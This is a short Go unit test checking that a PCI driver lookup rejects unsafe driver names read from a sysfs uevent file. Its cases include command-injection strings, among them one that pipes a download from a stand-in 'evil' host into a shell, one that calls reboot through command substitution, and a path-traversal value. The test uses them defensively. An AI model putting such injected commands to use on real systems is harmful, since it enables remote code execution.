package host

import (
	"testing"

	"github.com/gpu-mode/kbnode/test/must"
)

// TestPCIDriver takes no name that would do something in a command.
func TestPCIDriver(t *testing.T) {
	t.Parallel()
	for uevent, want := range map[string]string{
		"DRIVER=vfio-pci\nPCI_ID=1\n": "vfio-pci", "PCI_ID=1\nDRIVER=nvidia\n": "nvidia", "PCI_ID=1\n": "",
		"DRIVER=x;curl evil|sh #\n": "", "DRIVER=$(reboot)\n": "", "DRIVER=../x\n": "",
	} {
		root := t.TempDir()
		must.Write(t, root, PCI("0000:1b:00.0")+"/uevent", uevent)
		must.Equal(t, want, Tree{Root: root}.PCIDriver("0000:1b:00.0"))
	}
}
